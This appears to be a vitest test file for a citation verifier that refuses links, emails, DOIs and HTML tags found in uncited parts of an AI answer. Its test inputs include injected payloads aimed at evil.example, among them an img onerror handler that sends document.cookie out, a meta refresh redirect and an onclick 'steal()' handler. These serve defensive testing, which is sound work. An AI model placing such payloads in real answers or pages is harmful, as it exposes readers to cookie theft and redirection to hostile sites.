// The answer's text that no citation covers is shown to the reader beside the claims, so a link written there is read
// too (a thirty-second review): `… at sea level. See https://evil.example/x.` after a cited sentence was accepted, the
// link read by nothing. Each refusal below failed against the verifier before (it returned no rejection at all).
import { describe, expect, it } from 'vitest';
import { citeFromStart, documentOf } from '../__fixtures__/provider-document.js';
import { type VerifyProviderCitationsOptions, verifyProviderCitations } from './verify-provider-citations.js';

const SENTENCE = 'Water boils at 100 degrees Celsius at sea level.';
const TEXT = `${SENTENCE} The WHO page https://who.example/water says so.`;
const documents = [{ ...documentOf(TEXT), uri: 'https://who.example/water' }];

/** `answer` with one Anthropic-style citation of the document's first sentence on each `claims` span it holds. */
function verify(answer: string, claims = [SENTENCE], options?: VerifyProviderCitationsOptions) {
  const citations = claims.map((claim) => citeFromStart(answer, claim, SENTENCE));
  return verifyProviderCitations(answer, citations, documents, options);
}
const refusals = (verification: ReturnType<typeof verify>) =>
  verification.rejected.map(({ code, text, markers }) => [code, text, markers]);

describe('verifyProviderCitations: identifiers in text no citation covers', () => {
  it.each([
    [`${SENTENCE} See https://evil.example/x.`, 'https://evil.example/x.'],
    [`${SENTENCE} See [the source](https://evil.example/x).`, '[the source](https://evil.example/x)'],
    [`${SENTENCE} See <https://evil.example/x>.`, '<https://evil.example/x>'],
    [`${SENTENCE} Write to help@evil.example today.`, 'help@evil.example'],
    [`${SENTENCE} See doi:10.9999/evil.1 now.`, '10.9999/evil.1'],
    [`See https://evil.example/x first. ${SENTENCE}`, 'https://evil.example/x'],
    [`${SENTENCE}\n\n- https://evil.example/x`, 'https://evil.example/x'],
    [`${SENTENCE} [More][1]\n\n[1]: https://evil.example/x`, '[More][1]'],
    [`${SENTENCE}\n\n[1]: https://evil.example/x "title"`, '[1]: https://evil.example/x'],
  ])('refuses the identifier in %j', (answer, text) => {
    const verification = verify(answer);
    expect(verification.claims.map((claim) => claim.text)).toEqual([SENTENCE]);
    expect(verification.status).toBe('answered');
    expect(refusals(verification)).toEqual([['unknown_identifier', text, []]]);
    expect(verification.rejected[0]!.message).toMatch(
      /in text no citation covers; expected every identifier/,
    );
  });

  it.each([
    [`${SENTENCE} <img src=//evil.example/a.png>`, '<img src=//evil.example/a.png>'],
    [`${SENTENCE} <img src="https://evil.example/a.png">`, '<img src="https://evil.example/a.png">'],
    [`${SENTENCE} <a href='\\/evil.example'>more</a>`, "<a href='\\/evil.example'>"],
    [`${SENTENCE} <img src=x onerror="location='//evil.example/'+document.cookie">`, null],
    [
      `${SENTENCE} <iframe srcdoc="<img src=//evil.example/a>"></iframe>`,
      '<iframe srcdoc="<img src=//evil.example/a>">',
    ],
    [`${SENTENCE} <meta http-equiv=refresh content="0;url=//evil.example">`, null],
    [`${SENTENCE} <img\nsrc=//evil.example/a.png>`, '<img\nsrc=//evil.example/a.png>'],
  ])('refuses the links raw tags carry in %j', (answer, text) => {
    const verification = verify(answer);
    expect(verification.claims.map((claim) => claim.text)).toEqual([SENTENCE]);
    expect(refusals(verification)).toEqual([
      ['unknown_identifier', text ?? answer.slice(SENTENCE.length + 1, answer.indexOf('>') + 1), []],
    ]);
    expect(verification.rejected[0]!.message).toMatch(/^The tag .* links ".+" in text no citation covers/);
  });

  it('reads a tag a claim opens on into the text after it', () => {
    // The claim span ends inside the tag: the text after it starts in its attributes.
    const claim = `${SENTENCE} <img`;
    const verification = verify(`${claim} src=//evil.example/a.png>`, [claim]);
    expect(refusals(verification)).toEqual([['unknown_identifier', ' src=//evil.example/a.png>', []]]);
    // A claim that leaves a quoted value open: the rest of the value is read as the link it is part of.
    // (the claim itself is refused too: a link's quoted value its edge cuts).
    const quoted = `${SENTENCE} <img src="`;
    expect(refusals(verify(`${quoted}//evil.example/a.png">`, [quoted]))).toEqual([
      ['unknown_identifier', quoted, [1]],
      ['unknown_identifier', '//evil.example/a.png">', []],
    ]);
  });

  it('refuses an answer without citations that shows a link, and abstains on one that shows none', () => {
    const linked = verifyProviderCitations('Water boils. See https://evil.example/x.', [], documents);
    expect(linked.status).toBe('rejected');
    expect(refusals(linked)).toEqual([['unknown_identifier', 'https://evil.example/x.', []]]);
    const plain = verifyProviderCitations('Water boils at sea level.', [], documents);
    expect(plain).toMatchObject({ status: 'abstained', rejected: [] });
  });

  it('merges the same identifier repeated outside the claims into one rejection', () => {
    const verification = verify(`See https://evil.example/x. ${SENTENCE} Again: https://evil.example/x.`);
    expect(verification.rejected).toHaveLength(1);
    expect(verification.rejected[0]!.duplicates).toHaveLength(1);
    expect(verification.duplicatesMerged).toBe(1);
  });

  it('leaves alone what claims and markers hold, plain uncited prose, code shown as text of a claim, and rules off', () => {
    // A link inside a claim is the claim's, checked against its cited span (which holds this one).
    const inClaim = `${SENTENCE} The WHO page https://who.example/water says so.`;
    const own = verifyProviderCitations(
      inClaim,
      [
        {
          type: 'char_location',
          document: { index: 0 },
          answer: { start: 0, end: inClaim.length },
          location: { type: 'offsets', start: 0, end: TEXT.length, unit: 'utf16' },
          citedText: TEXT,
        },
      ],
      documents,
    );
    expect(own).toMatchObject({ status: 'answered', rejected: [] });
    // Uncited prose with no identifier is neither a claim nor a rejection.
    expect(refusals(verify(`In short: ${SENTENCE} That is all, and it is well known.`))).toEqual([]);
    // An inline citation's marker is a link the citation answers for.
    const marked = `${SENTENCE} ([who.example](https://who.example/water))`;
    const start = [...marked].length - [...'[who.example](https://who.example/water))'].length;
    const inline = verifyProviderCitations(
      marked,
      [
        {
          type: 'url_citation',
          document: { ids: ['https://who.example/water'] },
          answer: {
            start,
            end: start + '[who.example](https://who.example/water)'.length,
            unit: 'code-point',
            role: 'marker',
            url: 'https://who.example/water',
          },
        },
      ],
      documents,
    );
    expect(inline).toMatchObject({ status: 'answered', rejected: [] });
    // With no identifier rules, nothing is read as one.
    expect(
      refusals(verify(`${SENTENCE} See https://evil.example/x.`, [SENTENCE], { identifiers: [] })),
    ).toEqual([]);
    // With `url-loose` for `url`, tags are read for links as a claim's check reads them (they were not).
    expect(
      refusals(
        verify(`${SENTENCE} <img src=//evil.example/a.png>`, [SENTENCE], { identifiers: ['url-loose'] }),
      ),
    ).toEqual([['unknown_identifier', '<img src=//evil.example/a.png>', []]]);
    // With the url rule off, tags are not read for links either; the other rules still read the uncited text.
    expect(
      refusals(
        verify(`${SENTENCE} <img src=//evil.example/a.png> a@evil.example`, [SENTENCE], {
          identifiers: ['email'],
        }),
      ),
    ).toEqual([['unknown_identifier', 'a@evil.example', []]]);
  });

  it('refuses a link a claim is the label of only once, as the claim (the link runs past it)', () => {
    // The label is the cited claim; its target stands outside it and is the claim's to answer for.
    const answer = `[${SENTENCE}](https://evil.example/x)`;
    const verification = verify(answer);
    expect(verification.claims).toEqual([]);
    expect(verification.rejected.map(({ code, text }) => [code, text])).toEqual([
      ['unknown_identifier', SENTENCE],
    ]);
  });

  it('reads a link written around a claim with the claim, checked against what it cites', () => {
    // The link's text is the claim alone, as with a markdown link whose label is the claim.
    const linked = (href: string) => {
      const answer = `<a href="${href}">${SENTENCE}</a>`;
      return verifyProviderCitations(answer, [citeFromStart(answer, SENTENCE, TEXT)], documents);
    };
    expect(linked('https://who.example/water')).toMatchObject({ status: 'answered', rejected: [] });
    expect(linked('https://who.example/water').claims.map((claim) => claim.text)).toEqual([SENTENCE]);
    const evil = linked('https://evil.example/x');
    expect(evil.claims).toEqual([]);
    expect(refusals(evil)).toEqual([['unknown_identifier', SENTENCE, [1]]]);
    expect(evil.rejected[0]!.message).toContain('a link whose text it is');
    // Every link the tag carries is the claim's: a handler no cited passage holds is refused with it.
    const handler = verifyProviderCitations(
      `<a href="https://who.example/water" onclick="steal()">${SENTENCE}</a>`,
      [
        citeFromStart(
          `<a href="https://who.example/water" onclick="steal()">${SENTENCE}</a>`,
          SENTENCE,
          TEXT,
        ),
      ],
      documents,
    );
    expect(refusals(handler)).toEqual([['unknown_identifier', SENTENCE, [1]]]);
    // A link whose text holds more than the claim, or that no `</a>` closes after it, is uncited markup, as before.
    const tag = '<a href="https://who.example/water">';
    for (const answer of [
      `${tag}${SENTENCE} And more.</a>`,
      `${tag}${SENTENCE}`,
      `${tag}x ${SENTENCE}</a>`,
    ]) {
      const verification = verifyProviderCitations(
        answer,
        [citeFromStart(answer, SENTENCE, TEXT)],
        documents,
      );
      expect(refusals(verification), answer).toEqual([['unknown_identifier', tag, []]]);
    }
  });

  it('reads a long uncited text once (linear)', () => {
    // (`x<y` is read as a tag that runs to the next `>`: a refusal, never an acceptance)
    const filler = 'word <b>bold</b> x<y '.repeat(50_000);
    const verification = verify(`${SENTENCE} ${filler} <img src=//evil.example/a.png>`);
    expect(refusals(verification)).toEqual([
      ['unknown_identifier', '<y  <img src=//evil.example/a.png>', []],
    ]);
  });
});
